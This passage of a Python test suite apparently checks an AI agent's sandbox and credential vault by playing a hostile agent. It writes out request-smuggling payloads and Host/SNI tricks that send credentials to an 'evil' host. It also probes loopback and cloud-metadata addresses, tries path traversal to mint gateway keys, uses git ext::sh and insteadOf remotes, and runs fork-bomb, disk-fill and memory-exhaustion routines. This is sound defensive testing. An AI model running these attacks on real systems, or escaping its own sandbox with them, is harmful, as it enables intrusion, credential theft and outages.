@attempt('secrets', 'a credential bound to one port, at another port of its host')
def other_port():
    return blocked(get('/x', bearer(), port=BOUND['plain'], tls=False), 'misdirected_stub')


@many('secrets', [(name, words, build) for name, words, build in [
    ('sni_host', 'TLS for the bound host, Host of another', lambda: dict(sni=BOUND['name'], authority='%s:%d' % (EVIL['name'], EVIL['tls']))),
    ('host_case', 'Host with a name that only looks alike', lambda: dict(authority='%s:%d' % (BOUND['name'] + '.evil.test', BOUND['tls']))),
    ('host_port', 'Host with another port', lambda: dict(authority='%s:%d' % (BOUND['name'], EVIL['tls']))),
    ('host_userinfo', 'Host with user info before another name', lambda: dict(authority='%s:%d@%s:%d' % (BOUND['name'], BOUND['tls'], EVIL['name'], EVIL['tls']))),
    ('host_comma', 'two names in one Host', lambda: dict(authority='%s:%d, %s' % (BOUND['name'], BOUND['tls'], EVIL['name']))),
    ('host_space', 'Host with a space', lambda: dict(authority='%s:%d %s' % (BOUND['name'], BOUND['tls'], EVIL['name']))),
    ('sni_other', 'a connection to another host with the bound host as SNI and Host', lambda: dict(host=EVIL['name'], port=EVIL['tls'], sni=BOUND['name'], authority='%s:%d' % (BOUND['name'], BOUND['tls']))),
    ('sni_other_port', 'the same with the port of the connection', lambda: dict(host=EVIL['name'], port=EVIL['tls'], sni=BOUND['name'], authority='%s:%d' % (BOUND['name'], EVIL['tls']))),
    ('host_other', 'a connection to another host with the bound host as Host', lambda: dict(host=EVIL['name'], port=EVIL['tls'], sni=EVIL['name'], authority='%s:%d' % (BOUND['name'], EVIL['tls'])))]])
def disagree(build):
    answer = get('/disagree', bearer(), **build())
    if answer.status == 400 and not answer.blocked:
        return '400, not even parsed'
    return blocked(answer, 'misdirected', 'bad_request')


@attempt('secrets', 'an absolute URI for the bound host, Host of another')
def absolute_form():
    raw = 'GET https://%s:%d/abs HTTP/1.1\r\nHost: %s:%d\r\n%s\r\nConnection: close\r\n\r\n' % (BOUND['name'], BOUND['tls'], EVIL['name'], EVIL['tls'], bearer())
    return blocked(talk(raw.encode(), EVIL['name'], EVIL['tls']), 'misdirected', 'bad_request')


@attempt('secrets', 'the explicit proxy: an absolute URI with another Host')
def absolute_form_proxy():
    raw = 'GET http://%s:%d/abs HTTP/1.1\r\nHost: %s:%d\r\n%s\r\nConnection: close\r\n\r\n' % (EVIL['name'], EVIL['plain'], BOUND['name'], BOUND['plain'], bearer())
    return blocked(talk(raw.encode(), sock=proxy()), 'misdirected', 'bad_request')


@attempt('secrets', 'two Host headers')
def two_hosts():
    raw = 'GET /two HTTP/1.1\r\nHost: %s:%d\r\nHost: %s:%d\r\n%s\r\nConnection: close\r\n\r\n' % (BOUND['name'], BOUND['tls'], EVIL['name'], EVIL['tls'], bearer())
    return blocked(talk(raw.encode()), 'bad_request')


@attempt('secrets', 'no Host at all')
def no_host():
    raw = 'GET /none HTTP/1.0\r\n%s\r\n\r\n' % bearer()
    answer = talk(raw.encode(), EVIL['name'], EVIL['tls'])
    return blocked(answer, 'bad_request', 'misdirected_stub')


def connect(target):
    sock = proxy()
    sock.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target)).encode())
    head = b''
    while b'\r\n\r\n' not in head and (chunk := sock.recv(1)):
        head += chunk
    if b' 200' in head.split(b'\r\n')[0]:
        return sock, Answer(head)
    sock.settimeout(PATIENCE)
    sock.shutdown(socket.SHUT_WR)
    return sock, Answer(head + read_all(sock))


@attempt('secrets', 'CONNECT to an address, TLS and Host for the bound host')
def connect_address():
    sock, answer = connect('192.0.2.7:%d' % BOUND['tls'])
    if answer.status != 200:
        return blocked(answer, 'private_address', 'not_allowed', 'denied')
    return blocked(get('/connect', bearer(), sock=open_tls(None, None, BOUND['name'], sock=sock)), 'misdirected', 'private_address', 'misdirected_stub')


@attempt('secrets', 'CONNECT to another host, TLS and Host for the bound one')
def connect_other():
    sock, answer = connect('%s:%d' % (EVIL['name'], EVIL['tls']))
    if answer.status != 200:
        raise RuntimeError('no tunnel: %r' % answer.raw)
    return blocked(get('/connect', bearer(), sock=open_tls(None, None, BOUND['name'], sock=sock)), 'misdirected')


@attempt('secrets', 'CONNECT to loopback and metadata')
def connect_inside():
    seen = set()
    for target in ('127.0.0.1:%d' % WORLD['host_tcp'], '169.254.169.254:80', '[::1]:%d' % WORLD['host_tcp'], 'localhost:%d' % WORLD['host_tcp'], '0x7f000001:80', '127.1:80'):
        sock, answer = connect(target)
        if answer.status == 200:
            sock.settimeout(PATIENCE)
            answer = get('/', host=target.rsplit(':', 1)[0], tls=False, authority=target, sock=sock)
        if answer.status == 400 and not answer.blocked:
            seen.add('400')
            continue
        seen.add(blocked(answer, 'private_address', 'metadata', 'bad_request', 'dns'))
    return ', '.join(sorted(seen))


@attempt('secrets', 'CONNECT inside a connection that is the vault\'s already')
def connect_nested():
    raw = 'CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n' % (EVIL['name'], EVIL['raw'], BOUND['name'], BOUND['tls'])
    return blocked(talk(raw.encode()), 'bad_request', 'misdirected')


def http2(headers, host=None, port=None):
    """One request over HTTP/2 with exactly these headers: whatever data came back."""
    sock = open_tls(host or BOUND['name'], port or BOUND['tls'], alpn=['h2'])
    if sock.selected_alpn_protocol() != 'h2':
        raise RuntimeError('no HTTP/2')

    def text(value):
        value = value.encode()
        size = bytes([len(value)]) if len(value) < 127 else bytes([127, (len(value) - 127) & 127 | 128, (len(value) - 127) >> 7])
        return size + value

    block = b''.join(b'\x10' + text(name) + text(value) for name, value in headers)
    frame = lambda kind, flags, stream, payload: struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload
    sock.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') + frame(1, 5, 1, block))
    sock.settimeout(PATIENCE)
    buffer, data, raw = b'', b'', b''
    while True:
        while len(buffer) < 9 or len(buffer) < 9 + int.from_bytes(buffer[:3], 'big'):
            chunk = sock.recv(65536)
            if not chunk:
                return data, raw, 'closed'
            buffer, raw = buffer + chunk, raw + chunk
        size, kind, flags, stream = int.from_bytes(buffer[:3], 'big'), buffer[3], buffer[4], int.from_bytes(buffer[5:9], 'big')
        payload, buffer = buffer[9:9 + size], buffer[9 + size:]
        if kind == 0:
            data += payload
        if stream == 1 and kind == 3:
            return data, raw, 'reset'
        if kind == 7:
            return data, raw, 'goaway'
        if stream == 1 and flags & 1 and kind in (0, 1):
            return data, raw, 'ended'


@many('secrets', [(name, words, build) for name, words, build in [
    ('h2_authority', ':authority of another host on a connection to the bound one', lambda b, e: [(':authority', e)]),
    ('h2_authority_host', ':authority of the bound host, host of another', lambda b, e: [(':authority', b), ('host', e)]),
    ('h2_two_authorities', 'two :authority', lambda b, e: [(':authority', b), (':authority', e)]),
    ('h2_userinfo', ':authority with user info', lambda b, e: [(':authority', b + '@' + e)]),
    ('h2_none', 'no :authority, host of another', lambda b, e: [('host', e)])]])
def http2_authority(build):
    bound, evil = '%s:%d' % (BOUND['name'], BOUND['tls']), '%s:%d' % (EVIL['name'], EVIL['tls'])
    names = build(bound, evil)
    pseudo = [(':method', 'GET'), (':scheme', 'https'), (':path', '/h2')] + [pair for pair in names if pair[0].startswith(':')]
    data, raw, end = http2(pseudo + [('authorization', 'Bearer ' + stub('BOUND_TOKEN'))] + [pair for pair in names if not pair[0].startswith(':')])
    clean(raw, 'the answer')
    # Refusals of the vault begin so; the servers here say something else.
    if data.startswith(b'LAP: ') or end in ('reset', 'goaway'):
        return '%s %s' % (end, data[:60].decode('latin-1'))
    raise Breach('%s: %r' % (end, data[:200]))


@many('secrets', [(name, words, headers) for name, words, headers in [
    ('h2_te', 'HTTP/2 with transfer-encoding, for a server behind that speaks HTTP/1.1', [('transfer-encoding', 'chunked')]),
    ('h2_crlf', 'HTTP/2 with line breaks in a header', [('x-a', 'b\r\nx-injected: yes\r\n\r\nGET /smuggled HTTP/1.1\r\n')]),
    ('h2_connection', 'HTTP/2 with connection headers', [('connection', 'keep-alive, x')]),
    ('h2_length', 'HTTP/2 with a content-length that lies', [('content-length', '5')]),
    ('h2_name', 'HTTP/2 with a colon in a name', [('x:injected', 'yes')])]])
def http2_downgrade(headers):
    authority = '%s:%d' % (BOUND['name'], BOUND['tls'])
    data, raw, end = http2([(':method', 'POST'), (':scheme', 'https'), (':path', '/h2'), (':authority', authority), ('authorization', 'Bearer ' + stub('BOUND_TOKEN')), *headers])
    clean(raw, 'the answer')
    if end in ('reset', 'goaway', 'closed') or data.startswith(b'LAP: '):
        return end
    raise Breach('%s: %r' % (end, data[:200]))


@many('secrets', [('h2_' + name, 'a server that sends a body where none belongs: ' + name, method, path) for name, method, path in
                  [('head_body', 'HEAD', '/head'), ('no_content_body', 'GET', '/204'), ('not_modified_body', 'GET', '/304'), ('trailer', 'GET', '/trailer')]])
def http2_bodies(method, path):
    authority = '%s:%d' % (BOUND['name'], BOUND['h2'])
    data, raw, end = http2([(':method', method), (':scheme', 'https'), (':path', path), (':authority', authority), ('authorization', 'Bearer ' + stub('BOUND_TOKEN'))],
                           port=BOUND['h2'])
    clean(raw, 'the answer')
    if not raw:
        raise RuntimeError('nothing came')
    return '%s, %d bytes' % (end, len(data))


SMUGGLE = b'GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n'


@many('secrets', [('smuggle_' + name, words, lines, body) for name, words, lines, body in [
    ('cl_te', 'Content-Length beside Transfer-Encoding', ['Content-Length: 5', 'Transfer-Encoding: chunked'], b'0\r\n\r\n' + SMUGGLE),
    ('te_cl', 'the same, lengths exchanged', ['Transfer-Encoding: chunked', 'Content-Length: 3'], b'1\r\nx\r\n0\r\n\r\n' + SMUGGLE),
    ('te_te', 'two Transfer-Encodings', ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], b'0\r\n\r\n' + SMUGGLE),
    ('te_x', 'an unknown Transfer-Encoding', ['Transfer-Encoding: xchunked'], b'0\r\n\r\n' + SMUGGLE),
    ('te_space', 'Transfer-Encoding with a space before its colon', ['Transfer-Encoding : chunked'], b'0\r\n\r\n' + SMUGGLE),
    ('te_tab', 'Transfer-Encoding behind a vertical tab', ['Transfer-Encoding: \x0bchunked'], b'0\r\n\r\n' + SMUGGLE),
    ('te_gzip', 'Transfer-Encoding: gzip, chunked', ['Transfer-Encoding: gzip, chunked'], b'0\r\n\r\n' + SMUGGLE),
    ('cl_cl', 'two lengths that differ', ['Content-Length: 0', 'Content-Length: %d' % len(SMUGGLE)], SMUGGLE),
    ('cl_list', 'two lengths in one header', ['Content-Length: 0, %d' % len(SMUGGLE)], SMUGGLE),
    ('cl_plus', 'a length with a sign', ['Content-Length: +0'], SMUGGLE), ('cl_negative', 'a negative length', ['Content-Length: -1'], SMUGGLE),
    ('cl_huge', 'a length that overflows', ['Content-Length: 18446744073709551616'], SMUGGLE), ('cl_hex', 'a length in hexadecimal', ['Content-Length: 0x10'], SMUGGLE),
    ('fold', 'a folded header', ['X-A: b', ' Transfer-Encoding: chunked'], b'0\r\n\r\n' + SMUGGLE), ('bare_cr', 'a bare carriage return', ['X-A: b\rTransfer-Encoding: chunked'], SMUGGLE),
    ('nul', 'a zero byte in a header', ['X-A: b\0c'], SMUGGLE), ('chunk_size', 'a chunk size that overflows', ['Transfer-Encoding: chunked'], b'10000000000000000\r\n' + SMUGGLE),
    ('chunk_ext', 'a line break in a chunk extension', ['Transfer-Encoding: chunked'], b'1;a=\nb\r\nx\r\n0\r\n\r\n' + SMUGGLE),
    ('chunk_lf', 'chunks with bare line feeds', ['Transfer-Encoding: chunked'], b'1\nx\n0\n\n' + SMUGGLE), ('bare_lf', 'a head with bare line feeds', ['X-A: b\n\nGET /smuggled HTTP/1.1'], b''),
    ('hop', 'Connection: names Content-Length a hop header', ['Connection: content-length', 'Content-Length: %d' % len(SMUGGLE)], SMUGGLE),
    ('expect', 'Expect with a body that follows anyway', ['Expect: 100-continue', 'Content-Length: 0'], SMUGGLE), ('h2c', 'an upgrade to HTTP/2 in clear', ['Upgrade: h2c', 'HTTP2-Settings: AAAA', 'Connection: Upgrade, HTTP2-Settings'], SMUGGLE)]])
def smuggle(lines, body):
    """What follows may reach the server only as a request of its own, judged like any other; this one names a wrong host."""
    head = '\r\n'.join(['POST /outer HTTP/1.1', 'Host: %s:%d' % (BOUND['name'], BOUND['tls']), bearer(), *lines]) + '\r\n\r\n'
    sock = open_tls(BOUND['name'], BOUND['tls'])
    sock.sendall(head.encode('latin-1') + body)
    # Whether it arrived, the server knows for certain; here it is enough to hear the first answers.
    raw, end = b'', 'closed'
    try:
        sock.settimeout(1)
        while chunk := sock.recv(65536):
            raw += chunk
            sock.settimeout(0.1)
    except (TimeoutError, ConnectionResetError, ssl.SSLError) as problem:
        end = type(problem).__name__
    clean(raw, 'the answer')
    if b'smuggled-answer' in raw:
        raise Breach('the smuggled request was answered')
    return 'not answered; heard: ' + ', '.join(line.decode('latin-1') for line in re.findall(rb'HTTP/1.1 \d+|x-lap-blocked: \w+', raw)) + ', then ' + end


KEY = 'LITELLM_API_KEY'
ODD_ROUTES = ['/key/generate', '/v1/key/generate', '//key/generate', '/v1/../key/generate', '/v1/messages/../../key/generate', '/v1/%2e%2e/key/generate', '/v1/messages/%2e%2e/%2e%2e/key/generate',
              '/KEY/generate', '/Key/Generate', '/v1/messages/..%2f..%2fkey/generate', '/v1/messages;/../../key/generate', '/v1/messages%00/key/generate', '/%6bey/generate', '/key%2fgenerate',
              '/.//key/generate', '/v1/models/../../key/generate', '/v1/models/..%2f..%2fkey%2fgenerate', '/user/new', '/team/new', '/config/update', '/v1/models/x?/../key/generate', '/v1/messages/\\..\\key\\generate',
              '/global/spend', '/health', '/openai/deployments/x/chat/completions', '/anthropic/v1/messages', '/v1/files', '/v1/assistants']


@many('secrets', [('gateway_%d' % number, 'mint a key at the gateway: POST ' + path.replace('\\', '/').replace('\0', ''), path) for number, path in enumerate(ODD_ROUTES)])
def gateway_routes(path):
    answer = get(path, 'Authorization: Bearer ' + stub(KEY), 'Content-Type: application/json', host='gateway.lap.internal', port=80, tls=False, method='POST', body=b'{}', authority='gateway.lap.internal')
    if answer.status == 400 and not answer.blocked:
        return '400, not even parsed'
    return blocked(answer, 'gateway_route', 'bad_request')


@many('secrets', [('gateway_method_' + method.lower(), 'a model route with ' + method, method, headers) for method, headers in
                  [('PUT', []), ('DELETE', []), ('PATCH', []), ('TRACE', []), ('OPTIONS', []), ('GET', ['X-HTTP-Method-Override: POST', 'X-Original-URL: /key/generate', 'X-Rewrite-URL: /key/generate'])]])
def gateway_methods(method, headers):
    return blocked(get('/v1/chat/completions', 'Authorization: Bearer ' + stub(KEY), *headers, host='gateway.lap.internal', port=80, tls=False, method=method, authority='gateway.lap.internal'), 'gateway_route')


@attempt('secrets', 'a credential of a host elsewhere, toward a host that has one of its own')
def elsewhere():
    return blocked(get('/x', 'Authorization: Bearer ' + stub('ELSE_TOKEN')), 'misdirected_stub')


@attempt('secrets', 'the gateway\'s key toward another host')
def gateway_key_elsewhere():
    return blocked(get('/k', 'Authorization: Bearer ' + stub(KEY), host=EVIL['name'], port=EVIL['tls']), 'misdirected_stub')


@attempt('secrets', 'the gateway\'s key toward the gateway\'s real address')
def gateway_key_directly():
    raw = 'POST http://127.0.0.1:%d/key/generate HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nAuthorization: Bearer %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n' % (WORLD['gateway_port'], WORLD['gateway_port'], stub(KEY))
    return blocked(talk(raw.encode(), sock=proxy()), 'private_address', 'misdirected_stub')


@attempt('secrets', 'another credential at the gateway')
def other_key_at_gateway():
    return blocked(get('/v1/models', bearer(), host='gateway.lap.internal', port=80, tls=False, authority='gateway.lap.internal'), 'misdirected_stub')


@attempt('secrets', 'the gateway\'s key in the body and query of a model route')
def gateway_key_in_body():
    body = json.dumps({'model': 'test-model', 'messages': [{'role': 'user', 'content': stub(KEY)}], 'api_key': stub(KEY)}).encode()
    answer = get('/v1/chat/completions?key=' + stub(KEY), 'Authorization: Bearer ' + stub(KEY), 'Content-Type: application/json', host='gateway.lap.internal', port=80, tls=False, method='POST', body=body,
                 authority='gateway.lap.internal')
    if answer.status != 200:
        raise RuntimeError('%r' % answer.raw[:300])
    return 'answered 200; the test looks at what arrived'


@attempt('secrets', 'a WebSocket at the gateway')
def gateway_websocket():
    return blocked(get('/v1/responses', 'Authorization: Bearer ' + stub(KEY), 'Upgrade: websocket', 'Connection: upgrade', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13',
                       host='gateway.lap.internal', port=80, tls=False, authority='gateway.lap.internal'), 'gateway_route')


@attempt('secrets', 'make answers of the vault say what the agent likes')
def forged_refusal():
    answer = get('/forged', bearer())
    if answer.blocked:
        raise Breach('the server wrote x-lap-blocked: %s' % answer.blocked)
    return 'only the vault says x-lap-blocked'


def git(*arguments, **env):
    """git with the agent's own configuration: its output, searched for secrets."""
    done = subprocess.run(['git', *arguments], capture_output=True, timeout=PATIENCE, cwd='/tmp', stdin=subprocess.DEVNULL,
                          env={**os.environ, 'GIT_TERMINAL_PROMPT': '0', 'GIT_TRACE_CURL': '1', 'GIT_TRACE': '1', **env})
    text = done.stdout + done.stderr
    clean(text, 'the output of git')
    return done.returncode, text.decode('utf-8', 'replace')


GIT = WORLD['git']
EVIL_URL = 'https://%s:%d/' % (EVIL['name'], EVIL['tls'])


@attempt('git', 'the legitimate clone, so that the rest means something')
def git_control():
    status, text = git('clone', '--quiet', GIT + 'hostile.git', '/tmp/control')
    if status:
        raise RuntimeError(text[-300:])
    return 'cloned with a stub'


@attempt('git', 'submodules that lead to another host')
def git_submodules():
    status, text = git('clone', '--recurse-submodules', GIT + 'hostile.git', '/tmp/submodules')
    if status == 0:
        raise RuntimeError('the submodule was cloned: ' + text[-300:])
    return 'the other host saw no credential'


@attempt('git', 'url.insteadOf: the credential of one host for the url of another')
def git_instead_of():
    status, text = git('-c', 'url.%s.insteadOf=%s' % (EVIL_URL, GIT), 'ls-remote', GIT + 'hostile.git')
    if status == 0:
        raise RuntimeError(text[-300:])
    return 'failed'


@attempt('git', 'http.extraHeader with the stub, toward another host')
def git_extra_header():
    status, text = git('-c', 'http.extraHeader=Authorization: Bearer ' + stub('GITHUB_TOKEN'), 'ls-remote', EVIL_URL + 'x.git')
    if status == 0 or 'misdirected_stub' not in text:
        raise Breach(text[-300:])
    return '403 misdirected_stub'


@attempt('git', 'the stub as user info of another host\'s url')
def git_userinfo():
    status, text = git('ls-remote', EVIL_URL.replace('https://', 'https://x:%s@' % stub('GITHUB_TOKEN')) + 'wants-auth.git')
    if status == 0:
        raise Breach(text[-300:])
    return 'failed'


@attempt('git', 'the credential helper, asked for another host')
def git_helper():
    done = subprocess.run(['git', 'credential', 'fill'], input=('protocol=https\nhost=%s:%d\n\n' % (EVIL['name'], EVIL['tls'])).encode(), capture_output=True,
                          env={**os.environ, 'GIT_TERMINAL_PROMPT': '0', 'GIT_ASKPASS': '/bin/true'}, cwd='/tmp')
    clean(done.stdout + done.stderr, 'its answer')
    return 'at most a stub'


@attempt('git', 'ext:: and file:// remotes')
def git_ext():
    seen = []
    for remote in ('ext::sh -c cat% ' + WORLD['host_file'], 'file://' + WORLD['host_data'], WORLD['host_data'] + '/repo.git'):
        status, text = git('-c', 'protocol.ext.allow=always', 'ls-remote', remote)
        if status == 0 or WORLD['host_mark'] + '-content' in text:
            raise Breach(text[-300:])
        seen.append(status)
    return 'statuses %s' % seen


@attempt('git', 'the platform\'s clone token after the clone')
def git_platform_token():
    value = os.environ.get('GIT_TOKEN', '')
    if value and not value.startswith('stub_'):
        raise Breach('it is in the environment')
    if not value:
        return 'not even a stub is in the environment'
    answer = get('/x', 'Authorization: Bearer ' + value, host=EVIL['name'], port=EVIL['tls'])
    if answer.headers.get('x-got') == 'real':
        raise Breach('it still works')
    return 'a stub without a grant'


@attempt('git', 'hooks and configuration of the repository, run by the clone itself')
def git_hooks():
    status, text = git('clone', GIT + 'hostile.git', '/tmp/hooked')
    if status:
        raise RuntimeError(text[-300:])
    hooks = [name for name in os.listdir('/tmp/hooked/.git/hooks') if not name.endswith('.sample')]
    if hooks or os.path.exists('/tmp/hook-was-here'):
        raise Breach('hooks: %s' % hooks)
    return 'none came along'


# --------------------------------------------------------------------------------------------- what ends its own sandbox

@attempt('limits', 'fork until nothing forks any more')
def fork_bomb():
    pids, problem = [], None
    while len(pids) < 20000:
        try:
            pid = os.fork()
        except OSError as error:
            problem = errno.errorcode[error.errno]
            break
        if pid == 0:
            signal.pause()
            os._exit(0)
        pids.append(pid)
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    if problem is None:
        raise Breach('%d processes' % len(pids))
    return '%s after %d processes' % (problem, len(pids))


@attempt('limits', 'fill the disk')
def fill_disk():
    # Allocated, not written: whoever searches the disk afterwards is spared the bytes.
    written, step = 0, 8 << 20
    file = os.open('/work/fill', os.O_CREAT | os.O_WRONLY)
    try:
        while written < 1 << 30:
            os.posix_fallocate(file, written, step)
            written += step
        raise Breach('%d bytes' % written)
    except OSError as problem:
        return '%s after %d MiB' % (errno.errorcode[problem.errno], written >> 20)
    finally:
        os.close(file)
        os.unlink('/work/fill')


@attempt('limits', 'more files than the disk may hold')
def fill_inodes():
    os.makedirs('/work/many', exist_ok=True)
    try:
        for number in range(200000):
            os.mknod('/work/many/%d' % number)
    except OSError as problem:
        seen = '%s after %d files' % (errno.errorcode[problem.errno], number)
    else:
        raise Breach('200000 files')
    subprocess.run(['rm', '-rf', '/work/many'])
    return seen


@attempt('limits', 'more open files than allowed')
def open_files():
    files = []
    try:
        while len(files) < 200000:
            files.append(os.open('/dev/null', os.O_RDONLY))
    except OSError as problem:
        return '%s after %d' % (errno.errorcode[problem.errno], len(files))
    raise Breach('%d descriptors' % len(files))


@attempt('limits', 'take more memory than there is', dies=(signal.SIGKILL,))
def memory_hog():
    held, limit = [], WORLD['memory'] + (256 << 20)
    try:
        while sum(map(len, held)) < limit:
            block = mmap.mmap(-1, 32 << 20)
            for at in range(0, len(block), 4096):
                block[at] = 1
            held.append(block)
    except (MemoryError, OSError) as problem:
        return 'refused after %d MiB: %s' % (len(held) * 32, problem)
    raise Breach('%d MiB' % (len(held) * 32))


if __name__ == '__main__':
    if sys.argv[1] == 'count':
        print(len(ATTEMPTS))
    elif sys.argv[1] == 'kill':
        # Everything this user may signal, the guest among it; nothing is left to report.
        os.kill(-1, signal.SIGKILL)
    else:
        run(sys.argv[1])
